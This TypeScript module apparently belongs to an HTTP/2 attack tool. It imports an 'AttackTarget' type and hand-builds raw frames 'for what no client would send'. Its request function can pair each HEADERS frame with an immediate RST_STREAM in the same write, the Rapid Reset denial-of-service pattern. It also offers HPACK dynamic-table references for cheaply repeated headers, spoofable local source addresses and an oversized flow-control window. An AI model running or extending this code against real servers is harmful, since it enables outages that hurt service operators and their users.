import { once } from "node:events";
import { connect, type Socket } from "node:net";
import type { AttackTarget } from "./attack.ts";

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const GOAWAY = 7;
const WINDOW_UPDATE = 8;
const END_STREAM = 1;
const END_HEADERS = 4;
const HEAD_BYTES = 9;

/** A frame of HTTP/2, by the numbers of RFC 9113 §6. */
export const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(HEAD_BYTES);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};

/** A length as HPACK writes it behind a prefix of 7 bits. */
const length = (bytes: number): Buffer => {
  if (bytes < 127) return Buffer.from([bytes]);
  const rest = [127];
  for (let left = bytes - 127; ; left >>= 7) {
    rest.push(left < 128 ? left : (left & 127) | 128);
    if (left < 128) return Buffer.from(rest);
  }
};

/** A header field in full; `indexed` puts it into the dynamic table, as number 62. */
export const literal = (name: string, value: string, indexed = false): Buffer =>
  Buffer.concat([Buffer.from([indexed ? 0x40 : 0]), length(name.length), Buffer.from(name), length(value.length), Buffer.from(value)]);

/** The latest field of the dynamic table, in one byte. */
export const reference: Buffer = Buffer.from([0x80 | 62]);

export interface RawConnection {
  readonly socket: Socket;
  /** A request without a body; the frames of one call leave together. @param reset takes it back in the same bytes, with this code. */
  readonly request: (fields: Buffer, reset?: number) => Buffer;
  /** Resolves once it is written, or at once when the connection is closed. */
  readonly write: (bytes: Buffer) => Promise<void>;
  /** Answers that came. */
  readonly answers: () => number;
  /** The code with which the other end first asked to end the connection. */
  readonly askedToGo: () => number | undefined;
}

/** HTTP/2 byte by byte, for what no client would send. @param from an address of this machine. */
export const openRawHttp2 = async ({ host, port }: Pick<AttackTarget, "host" | "port">, from?: string): Promise<RawConnection> => {
  const socket = connect({ port, host, ...(from === undefined ? {} : { localAddress: from }) });
  await once(socket, "connect");
  socket.on("error", () => undefined);
  let rest: Buffer = Buffer.alloc(0);
  let answers = 0;
  let code: number | undefined;
  socket.on("data", (chunk: Buffer) => {
    rest = Buffer.concat([rest, chunk]);
    while (rest.length >= HEAD_BYTES) {
      const end = HEAD_BYTES + rest.readUIntBE(0, 3);
      if (rest.length < end) return;
      const type = rest[3];
      if (type === HEADERS) answers++;
      if (type === GOAWAY) code ??= rest.readUInt32BE(HEAD_BYTES + 4);
      if (type === SETTINGS && rest[4] === 0) socket.write(frame(SETTINGS, 1, 0, Buffer.alloc(0)));
      rest = rest.subarray(end);
    }
  });
  const window = Buffer.alloc(4);
  window.writeUInt32BE(2 ** 31 - 65_536);
  socket.write(
    Buffer.concat([
      Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
      frame(SETTINGS, 0, 0, Buffer.alloc(0)),
      frame(WINDOW_UPDATE, 0, 0, window),
    ]),
  );
  let next = 1;
  return {
    socket,
    request: (fields, reset) => {
      const stream = next;
      next += 2;
      const headers = frame(HEADERS, END_STREAM | END_HEADERS, stream, fields);
      return reset === undefined ? headers : Buffer.concat([headers, frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, reset]))]);
    },
    write: (bytes) =>
      new Promise((resolve) => {
        if (socket.destroyed || !socket.writable) return resolve();
        socket.write(bytes, () => resolve());
      }),
    answers: () => answers,
    askedToGo: () => code,
  };
};
